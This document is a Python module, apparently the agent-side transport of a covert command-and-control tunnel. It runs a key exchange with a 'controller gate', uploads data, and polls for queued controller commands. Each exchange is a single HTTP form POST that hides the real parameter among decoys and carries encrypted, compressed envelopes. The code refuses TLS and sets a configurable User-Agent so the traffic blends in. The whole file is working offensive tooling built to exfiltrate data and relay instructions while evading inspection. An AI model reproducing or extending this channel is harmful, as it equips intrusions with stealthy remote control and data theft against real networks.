"""
Agent side of the channel.

Every exchange is a single form POST to the controller gate, the real
parameter hidden among decoys. The first POST carries the handshake blob;
later POSTs carry one sealed envelope each and may return one sealed
envelope of queued controller data.
"""

from __future__ import annotations

from typing import Optional
from urllib.parse import urlsplit

import requests

from websock.config import CONFIG, ConfigError
from websock.decoy import FormPairs, build_parameters, sentinel_key, session_key
from websock.dispatcher import CHECK_STREAM_DATA, TERMINATE_CONNECTION_DATA, TEST_CONNECTION_DATA
from websock.envelope import EnvelopeError, IntegrityError, decompress_stream, open_envelope, seal_envelope
from websock.handshake import complete_agent_hello, create_agent_hello
from websock.logging_utils import get_logger, mask_session_id
from websock.session import NotConnectedError

logger = get_logger("websock")


class TransportError(Exception):
    """HTTP exchange failed (unreachable host, timeout or non-200 status). Retryable."""

    def __init__(self, message: str, status: Optional[int] = None) -> None:
        super().__init__(message)
        self.status = status


class AgentChannel:
    def __init__(
        self,
        gate_uri: str,
        cfg: Optional[dict] = None,
        http: Optional[requests.Session] = None,
    ) -> None:
        self.cfg = cfg or CONFIG
        url = urlsplit(gate_uri)
        if url.scheme != "http":
            raise ConfigError("HTTP scheme must not use TLS")
        if not url.hostname:
            raise ConfigError(f"gate URI has no host: {gate_uri!r}")
        self.gate_uri = gate_uri
        self._http = http or requests.Session()
        self._owns_http = http is None
        self.session_id: Optional[str] = None
        self._secret: Optional[bytes] = None

    def __enter__(self) -> "AgentChannel":
        if not self.connected:
            self.connect()
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    @property
    def connected(self) -> bool:
        return self._secret is not None

    def _label(self) -> str:
        return mask_session_id(self.session_id or "", self.cfg["LOG_SESSION_ID"])

    def _post(self, params: FormPairs) -> requests.Response:
        headers = {
            "Content-Type": self.cfg["HTTP_CONTENT_TYPE"],
            "User-Agent": self.cfg["HTTP_USER_AGENT"],
            "Connection": "close",
        }
        try:
            response = self._http.post(
                self.gate_uri,
                data=params,
                headers=headers,
                timeout=self.cfg["HTTP_TIMEOUT_S"],
                allow_redirects=False,
            )
        except requests.RequestException as exc:
            raise TransportError(f"POST {self.gate_uri} failed: {exc}") from exc
        if response.status_code != 200:
            raise TransportError(
                f"HTTP 200 OK not returned: {response.status_code} {response.text.strip()}",
                status=response.status_code,
            )
        return response

    def connect(self) -> str:
        """Run the key exchange and return the session id."""
        hello = create_agent_hello()
        response = self._post(build_parameters(sentinel_key(self.cfg), hello.blob, self.cfg))
        self.session_id, self._secret = complete_agent_hello(hello, response.content)
        logger.info("Channel established", extra={"session": self._label(), "gate": self.gate_uri})
        return self.session_id

    def _exchange(self, payload: bytes, *, inflate: bool) -> bytes:
        if self._secret is None or self.session_id is None:
            raise NotConnectedError("client not connected")
        value = seal_envelope(self._secret, self.session_id, payload)
        response = self._post(build_parameters(session_key(self.session_id), value, self.cfg))
        body = response.content.strip()
        if not body:
            return b""
        envelope = open_envelope(self._secret, body)
        if envelope.session_id != self.session_id:
            raise IntegrityError("response envelope carries a foreign session id")
        if inflate and self.cfg["COMPRESSION"]:
            return decompress_stream(envelope.payload)
        return envelope.payload

    def send(self, data: bytes) -> bytes:
        """Upload ``data``; returns whatever controller data was queued (possibly b"")."""
        return self._exchange(data, inflate=True)

    def poll(self) -> bytes:
        """Ask for queued controller data, waiting up to the controller's response timeout."""
        return self._exchange(CHECK_STREAM_DATA, inflate=True)

    def test_connection(self) -> bool:
        return self._exchange(TEST_CONNECTION_DATA, inflate=False) == TEST_CONNECTION_DATA

    def close(self) -> None:
        """Tell the controller to tear the session down and forget the secret."""
        try:
            if self.connected:
                try:
                    self._exchange(TERMINATE_CONNECTION_DATA, inflate=False)
                except (TransportError, EnvelopeError) as exc:
                    logger.warning("Terminate request failed", extra={"session": self._label(), "error": str(exc)})
        finally:
            self._secret = None
            if self._owns_http:
                self._http.close()


def build_channel(gate_uri: str, cfg: Optional[dict] = None) -> AgentChannel:
    """Validate ``gate_uri`` and return an unconnected channel."""
    return AgentChannel(gate_uri, cfg)
